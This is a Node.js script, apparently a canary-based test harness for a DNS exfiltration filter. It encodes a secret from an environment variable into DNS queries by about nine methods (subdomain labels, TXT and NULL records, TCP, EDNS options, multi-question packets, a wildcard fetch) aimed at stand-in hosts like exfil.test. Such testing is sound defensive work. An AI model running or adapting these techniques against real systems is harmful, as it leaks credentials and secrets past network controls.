// Puts the secret into questions for the name server that the job was given.
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { connect } from 'node:net';

const secret = process.env.CANARY;
const name = `${secret.match(/.{1,8}/g).join('.')}.exfil.test`;
const resolver = new Resolver({ timeout: 1000, tries: 1 });
// A machine of its own has another than a container.
const [server] = resolver.getServers();
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const ask = (what, type) => resolver.resolve(what, type).catch((error) => console.log(error.code));

const labels = (text) =>
  Buffer.concat([...text.split('.').map((label) => Buffer.from([label.length, ...Buffer.from(label)])), Buffer.from([0])]);
const question = (text, type) => Buffer.concat([labels(text), Buffer.from([0, type, 0, 1])]);
const message = (questions, additional, ...parts) =>
  Buffer.concat([Buffer.from([1, 1, 1, 0, 0, questions, 0, 0, 0, 0, 0, additional]), ...parts]);
// RFC 6891: an option that is for local use.
const option = (text) =>
  Buffer.concat([Buffer.from([0, 0, 41, 4, 208, 0, 0, 0, 0, 0, text.length + 4, 253, 233, 0, text.length]), Buffer.from(text)]);

async function send(bytes) {
  const socket = createSocket('udp4');
  await new Promise((resolve) => socket.send(bytes, 53, server, resolve));
  await wait(200);
  socket.close();
}

const ways = {
  A: () => ask(name, 'A'),
  TXT: () => ask(name, 'TXT'),
  NULL: () => send(message(1, 0, question(name, 10))),
  'long-labels': () => ask(`${secret.padEnd(63, 'x')}.${'y'.repeat(63)}.${'z'.repeat(63)}.exfil.test`, 'AAAA'),
  'over-tcp': async () => {
    const bytes = message(1, 0, question(`${secret}.exfil.test`, 1));
    connect(53, server, function () {
      this.end(Buffer.concat([Buffer.from([0, bytes.length]), bytes]));
    }).on('error', (error) => console.log(error.code));
    await wait(200);
  },
  'many-questions': () => Promise.all([...secret].map((letter, at) => ask(`${at}-${letter}.exfil.test`, 'A'))),
  // A name is asked of others only when something is to be sent there.
  'below-a-wildcard': () =>
    fetch(`http://${Buffer.from(secret).toString('hex')}.cdn.test/`, { signal: AbortSignal.timeout(30_000) }).then(
      (answer) => console.log(answer.status),
      (error) => console.log(error.cause?.code ?? error.name),
    ),
  'beside-the-question': () => send(message(1, 1, question('registry.test', 1), option(secret))),
  'two-in-one': () => send(message(2, 0, question('registry.test', 1), question(`${secret}.exfil.test`, 1))),
};
await ways[process.argv[2]]();
